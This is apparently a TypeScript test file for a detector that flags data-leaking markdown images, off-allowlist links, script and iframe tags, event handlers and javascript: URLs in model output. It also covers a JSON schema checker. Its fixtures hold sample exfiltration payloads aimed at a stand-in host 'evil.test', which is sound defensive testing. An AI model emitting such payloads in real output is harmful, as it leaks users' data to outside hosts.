import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DetectorConfigError } from './config-error.js';
import { createJsonSchemaCheck, createOutputDetector } from './output.js';

describe('createOutputDetector', () => {
  const det = createOutputDetector({ allowedHosts: ['docs.example.com', '*.cdn.example.com'] });
  const types = (text: string): [string, string][] => det.scan(text, 'OUTPUT').map((f) => [f.type, f.confidence]);

  it('flags markdown images to hosts off the allowlist, HIGH when they carry data', () => {
    assert.deepEqual(types('![x](https://evil.test/p.png?d=c2VjcmV0)'), [['MARKDOWN_IMAGE', 'HIGH']]);
    assert.deepEqual(types('![x](https://evil.test/p.png)'), [['MARKDOWN_IMAGE', 'MEDIUM']]);
    assert.equal(det.scan('![x](https://evil.test/a.png)', 'OUTPUT')[0].host, 'evil.test');
  });
  it('allows listed hosts, subdomain patterns and relative URLs', () => {
    assert.deepEqual(types('![a](https://docs.example.com/a.png?x=1) ![b](https://img.cdn.example.com/b.png?y=2) ![c](/local.png)'), []);
  });
  it('does not let look-alike hosts through', () => {
    assert.deepEqual(types('![a](https://docs.example.com.evil.test/a.png)'), [['MARKDOWN_IMAGE', 'MEDIUM']]);
    assert.deepEqual(types('![a](https://user@evil.test/a.png)'), [['MARKDOWN_IMAGE', 'MEDIUM']]);
  });
  it('flags links with query strings by default, all links in `all` mode', () => {
    assert.deepEqual(types('[click](https://evil.test/?q=secret)'), [['MARKDOWN_LINK', 'MEDIUM']]);
    assert.deepEqual(types('[home](https://evil.test/)'), []);
    const all = createOutputDetector({ links: 'all' });
    assert.deepEqual(all.scan('[home](https://evil.test/)', 'OUTPUT').map((f) => f.type), ['MARKDOWN_LINK']);
  });
  it('flags reference-style image definitions', () => {
    assert.deepEqual(types('![logo][1]\n\n[1]: https://evil.test/x.png?d=1'), [['MARKDOWN_IMAGE', 'HIGH']]);
  });
  it('flags script, iframes, event handlers, external img tags and javascript: URLs', () => {
    assert.deepEqual(types('<script>alert(1)</script>').map((x) => x[0]), ['HTML_SCRIPT']);
    assert.deepEqual(types('<iframe src="https://x.test"></iframe>').map((x) => x[0]), ['HTML_EMBED']);
    assert.deepEqual(types('<div onmouseover="steal()">hi</div>').map((x) => x[0]), ['HTML_EVENT_HANDLER']);
    assert.deepEqual(types('<img src="https://evil.test/p?d=1">').map((x) => x[0]), ['HTML_IMAGE']);
    assert.deepEqual(types('[x](javascript:alert(1))').map((x) => x[0]).sort(), ['MARKDOWN_LINK', 'SCRIPT_URL']);
  });
  it('leaves ordinary prose and code alone', () => {
    assert.deepEqual(types('Use a < b and b > c; see the docs at [docs](https://docs.example.com/x?y=1).'), []);
  });
  it('validates the allowlist with a field path', () => {
    assert.throws(() => createOutputDetector({ allowedHosts: ['ok.com', 'https://bad.com/'] }), (e: unknown) => e instanceof DetectorConfigError && e.path === 'allowedHosts[1]');
  });
});

describe('createJsonSchemaCheck', () => {
  const check = createJsonSchemaCheck({
    schema: { type: 'object', required: ['name', 'age'], properties: { name: { type: 'string' }, age: { type: 'integer', minimum: 0 } }, additionalProperties: false },
  });
  it('passes valid JSON, also inside a ```json fence', () => {
    assert.deepEqual(check.scan('{"name":"a","age":3}', 'OUTPUT'), []);
    assert.deepEqual(check.scan('```json\n{"name":"a","age":3}\n```', 'OUTPUT'), []);
  });
  it('reports invalid JSON and schema mismatches by path, not by value', () => {
    assert.equal(check.scan('not json', 'OUTPUT')[0].type, 'JSON_INVALID');
    const f = check.scan('{"name":"secret-value","age":-1}', 'OUTPUT');
    assert.equal(f[0].type, 'JSON_SCHEMA_MISMATCH');
    assert.deepEqual(f[0].errors, ['/age: minimum']);
    assert.ok(!JSON.stringify(f).includes('secret-value'));
  });
  it('refuses oversized documents before parsing', () => {
    const small = createJsonSchemaCheck({ schema: true, maxLength: 10 });
    assert.equal(small.scan('{"a":"0123456789"}', 'OUTPUT')[0].type, 'JSON_TOO_LARGE');
  });
  it('rejects an invalid schema at creation', () => {
    assert.throws(() => createJsonSchemaCheck({ schema: { type: 'no-such-type' } }), (e: unknown) => e instanceof DetectorConfigError && e.path === 'schema');
  });
});
